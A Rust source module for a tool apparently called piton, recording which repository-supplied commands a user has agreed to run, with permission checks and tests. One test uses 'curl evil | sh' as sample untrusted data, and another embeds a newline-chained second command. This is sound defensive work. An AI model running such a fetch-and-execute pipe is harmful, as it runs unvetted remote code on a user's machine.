//! What a person has agreed to run. Nothing that a repository supplies is executed before its user has
//! seen the list; the list, not the plan, is what is trusted, so any change of it asks again. Kept in
//! the user's state, outside of every repository, where an agent's worktree does not reach.
//!
//! [`Trusted`] is the leave to execute. Only this module makes one, and nothing that a repository
//! supplies can be started without it.

use std::collections::BTreeMap;
use std::fs::{self, DirBuilder, OpenOptions};
use std::io::{self, Write};
use std::os::unix::fs::{DirBuilderExt, MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use piton_core::agent::Agent;
use piton_core::ids::{AgentName, Hash};
use piton_core::plan::{Plan, agent_of, executables, trust_hash};

use piton_git::shell;

use crate::config::{self, Layers, xdg};
use crate::error::EngineError;
use crate::error::TrustError;
use crate::project::Project;

/// Leave to execute what a plan and the agents recorded with its run say: their user has agreed to it.
pub struct Trusted {
    plan: Plan,
    agents: BTreeMap<AgentName, Agent>,
}

impl Trusted {
    /// Looks the plan and the agents of its settings up in the user's agreements, as they are now.
    pub(crate) fn require(
        project: &Project,
        plan_file: &Path,
        plan: &Plan,
        agents: BTreeMap<AgentName, Agent>,
    ) -> Result<Trusted, EngineError> {
        let list = TrustList::new(project, plan_file, plan, &agents)?;
        match list.look_up()? {
            Trust::Trusted => Ok(Trusted { plan: plan.clone(), agents }),
            Trust::Untrusted { new, gone } => {
                Err(EngineError::Untrusted { plan: list.plan, new, gone })
            }
        }
    }

    pub(crate) fn plan(&self) -> &Plan {
        &self.plan
    }

    /// An agent's definition; the plan's own wins.
    pub(crate) fn agent(&self, name: &AgentName) -> Option<&Agent> {
        agent_of(&self.plan, &self.agents, name)
    }
}

/// Where agreements are kept.
#[derive(Debug, Clone)]
struct Agreements {
    folder: PathBuf,
}

/// What trust is asked for: everything a plan of a repository can make this machine execute.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustList {
    /// The repository's git directory, shared by its worktrees: the same words mean another thing
    /// in another repository.
    pub repository: PathBuf,
    /// The plan's path, for telling what changed since it was last trusted.
    pub plan: PathBuf,
    pub executables: Vec<String>,
    /// The hash of `executables`.
    pub hash: Hash,
}

impl TrustList {
    /// The list of a plan and of the agents of its settings. An agent that is word for word in the
    /// user's own configuration needs no trust.
    pub fn new(
        project: &Project,
        plan_file: &Path,
        plan: &Plan,
        agents: &BTreeMap<AgentName, Agent>,
    ) -> Result<TrustList, EngineError> {
        let own = config::user_agents(&Layers::of_process(None))?;
        let executables = executables(plan, agents, &own);
        let path = fs::canonicalize(plan_file).or_else(|_| std::path::absolute(plan_file));
        Ok(TrustList {
            repository: project.git.common_dir().to_owned(),
            plan: path.map_err(EngineError::io("the plan's path"))?,
            hash: trust_hash(&executables),
            executables,
        })
    }

    /// Whether the user has agreed to this list. Writes nothing.
    pub fn look_up(&self) -> Result<Trust, TrustError> {
        match self.executables.is_empty() {
            // Nothing is asked of a user without a home.
            true => Ok(Trust::Trusted),
            false => Agreements::of_user()?.check(self),
        }
    }

    /// Records that the user agrees to this list.
    pub fn grant(&self) -> Result<(), TrustError> {
        Agreements::of_user()?.grant(self)
    }
}

/// Whether a list was agreed to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Trust {
    Trusted,
    Untrusted {
        /// What the list trusted for this plan before did not have; everything, if there was none.
        new: Vec<String>,
        /// What it had and this one does not.
        gone: Vec<String>,
    },
}

impl Agreements {
    /// `$XDG_STATE_HOME/piton/trust`, or the same under `~/.local/state`.
    fn of_user() -> Result<Agreements, TrustError> {
        let env = |name: &str| std::env::var(name).ok();
        let state = xdg(&env, "XDG_STATE_HOME", ".local/state").ok_or(TrustError::NoHome)?;
        Ok(Agreements::at(state.join("piton").join("trust")))
    }

    fn at(folder: PathBuf) -> Agreements {
        Agreements { folder }
    }

    /// Whether this list was agreed to. Writes nothing.
    fn check(&self, list: &TrustList) -> Result<Trust, TrustError> {
        if self.folder_exists()? {
            let agreed = self.read_list(&self.list_file(list))?;
            if agreed.as_deref() == Some(list.executables.as_slice()) {
                return Ok(Trust::Trusted);
            }
        }
        let before = self.last(list)?.unwrap_or_default();
        let missing = |from: &[String], other: &[String]| {
            from.iter().filter(|entry| !other.contains(entry)).cloned().collect()
        };
        Ok(Trust::Untrusted {
            new: missing(&list.executables, &before),
            gone: missing(&before, &list.executables),
        })
    }

    /// Records that this list was agreed to.
    fn grant(&self, list: &TrustList) -> Result<(), TrustError> {
        self.make_folder()?;
        let bytes = serde_json::to_vec_pretty(&list.executables)
            .expect("a list of strings can always be written");
        self.replace(&self.list_file(list), &bytes)?;
        self.replace(&self.index(list), key(list).to_string().as_bytes())
    }

    /// The list trusted for this plan before, if any.
    fn last(&self, list: &TrustList) -> Result<Option<Vec<String>>, TrustError> {
        let Some(bytes) = self.read(&self.index(list))? else { return Ok(None) };
        let text = String::from_utf8_lossy(&bytes).into_owned();
        match Hash::try_from(text) {
            Ok(hash) => self.read_list(&self.folder.join(hash.to_string())),
            Err(_) => Ok(None),
        }
    }

    fn list_file(&self, list: &TrustList) -> PathBuf {
        self.folder.join(key(list).to_string())
    }

    fn index(&self, list: &TrustList) -> PathBuf {
        let name = [path_bytes(&list.repository), b"\0", path_bytes(&list.plan)].concat();
        self.folder.join(format!("last-{}", Hash::of(&name)))
    }

    fn read_list(&self, path: &Path) -> Result<Option<Vec<String>>, TrustError> {
        let bytes = self.read(path)?;
        Ok(bytes.and_then(|bytes| serde_json::from_slice(&bytes).ok()))
    }

    fn read(&self, path: &Path) -> Result<Option<Vec<u8>>, TrustError> {
        match fs::symlink_metadata(path) {
            Ok(found) => check_owned(path, &found)?,
            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(None),
            Err(error) => return Err(failed(path, error)),
        }
        fs::read(path).map(Some).map_err(|error| failed(path, error))
    }

    fn folder_exists(&self) -> Result<bool, TrustError> {
        match fs::symlink_metadata(&self.folder) {
            Ok(found) => check_owned(&self.folder, &found).map(|()| true),
            Err(error) if error.kind() == io::ErrorKind::NotFound => Ok(false),
            Err(error) => Err(failed(&self.folder, error)),
        }
    }

    fn make_folder(&self) -> Result<(), TrustError> {
        let made = DirBuilder::new().recursive(true).mode(0o700).create(&self.folder);
        made.map_err(|error| failed(&self.folder, error))?;
        self.folder_exists().map(|_| ())
    }

    /// Writes beside and renames, so that a reader sees all of it or nothing.
    fn replace(&self, path: &Path, bytes: &[u8]) -> Result<(), TrustError> {
        let beside = path.with_extension(std::process::id().to_string());
        let written = OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(true)
            .mode(0o600)
            .open(&beside)
            .and_then(|mut file| file.write_all(bytes).and_then(|()| file.sync_all()))
            .and_then(|()| fs::rename(&beside, path));
        written.map_err(|error| failed(path, error))
    }
}

/// A list is agreed to in one repository: `make test` is another program in another one.
fn key(list: &TrustList) -> Hash {
    Hash::of(&[list.hash.as_bytes().as_slice(), path_bytes(&list.repository)].concat())
}

fn path_bytes(path: &Path) -> &[u8] {
    std::os::unix::ffi::OsStrExt::as_bytes(path.as_os_str())
}

/// Somebody else's word is no agreement.
fn check_owned(path: &Path, found: &fs::Metadata) -> Result<(), TrustError> {
    let unsafe_because = |why| Err(TrustError::Unsafe { path: path.to_path_buf(), why });
    if found.file_type().is_symlink() {
        return unsafe_because("it is a symbolic link");
    }
    if found.uid() != rustix::process::getuid().as_raw() {
        return unsafe_because("it belongs to another user");
    }
    if found.mode() & 0o022 != 0 {
        return unsafe_because("other users may write to it");
    }
    Ok(())
}

fn failed(path: &Path, source: io::Error) -> TrustError {
    TrustError::Io { path: path.to_path_buf(), source }
}

impl TrustError {
    /// The next thing to type.
    pub fn hint(&self) -> Option<String> {
        match self {
            TrustError::NoHome => Some("`export HOME=~` names one".to_owned()),
            TrustError::Unsafe { path, .. } | TrustError::Io { path, .. } => {
                let command = shell::mv_aside(path)?;
                Some(format!("move it aside, and trust the plan again: `{command}`"))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::{PermissionsExt, symlink};

    use super::*;

    fn asked(executables: &[&str]) -> TrustList {
        let executables: Vec<String> = executables.iter().map(|&text| text.to_owned()).collect();
        let hash = Hash::of(executables.join("\0").as_bytes());
        let (repository, plan) = (PathBuf::from("/repo/.git"), PathBuf::from("plan.toml"));
        TrustList { repository, plan, executables, hash }
    }

    fn place() -> (tempfile::TempDir, Agreements) {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let agreements = Agreements::at(folder.path().join("state/piton/trust"));
        (folder, agreements)
    }

    #[test]
    fn a_list_is_trusted_once_granted_and_looking_writes_nothing() {
        let (folder, agreements) = place();
        let list = asked(&["make", "npm test\n&& true"]);
        let unknown = Trust::Untrusted { new: list.executables.clone(), gone: vec![] };
        assert_eq!(agreements.check(&list).expect("checked"), unknown);
        assert!(!folder.path().join("state").exists(), "looking made a folder");
        agreements.grant(&list).expect("granted");
        assert_eq!(agreements.check(&list).expect("checked"), Trust::Trusted);
        assert_eq!(asked(&[]).look_up().expect("checked"), Trust::Trusted);
    }

    #[test]
    fn a_change_is_told_as_a_difference() {
        let (_folder, agreements) = place();
        agreements.grant(&asked(&["make", "npm test"])).expect("granted");
        let changed = asked(&["make", "curl evil | sh"]);
        let Trust::Untrusted { new, gone } = agreements.check(&changed).expect("checked") else {
            panic!("a changed list is not trusted");
        };
        assert_eq!((new, gone), (vec!["curl evil | sh".to_owned()], vec!["npm test".to_owned()]));
    }

    #[test]
    fn the_same_words_in_another_repository_are_not_trusted() {
        let (_folder, agreements) = place();
        let here = asked(&["make"]);
        agreements.grant(&here).expect("granted");
        let there = TrustList { repository: PathBuf::from("/other/.git"), ..here };
        assert!(matches!(agreements.check(&there), Ok(Trust::Untrusted { .. })));
    }

    #[test]
    fn agreements_are_private_and_foreign_ones_are_refused() {
        let (folder, agreements) = place();
        let list = asked(&["make"]);
        agreements.grant(&list).expect("granted");
        let mode = |path: &Path| fs::metadata(path).expect("there").mode() & 0o777;
        assert_eq!(mode(&agreements.folder), 0o700);
        assert_eq!(mode(&agreements.list_file(&list)), 0o600);

        fs::set_permissions(agreements.list_file(&list), fs::Permissions::from_mode(0o666))
            .expect("its owner may");
        assert!(matches!(agreements.check(&list), Err(TrustError::Unsafe { .. })));

        let linked = Agreements::at(folder.path().join("linked"));
        symlink(&agreements.folder, &linked.folder).expect("a link");
        assert!(matches!(linked.check(&list), Err(TrustError::Unsafe { .. })));
        assert!(matches!(linked.grant(&list), Err(TrustError::Unsafe { .. })));
    }

    #[test]
    fn a_list_that_was_tampered_with_is_not_trusted() {
        let (_folder, agreements) = place();
        let list = asked(&["make"]);
        agreements.grant(&list).expect("granted");
        fs::write(agreements.list_file(&list), b"[\"other\"]").expect("written");
        assert!(matches!(agreements.check(&list), Ok(Trust::Untrusted { .. })));
        fs::write(agreements.list_file(&list), b"{torn").expect("written");
        assert!(matches!(agreements.check(&list), Ok(Trust::Untrusted { .. })));
    }
}
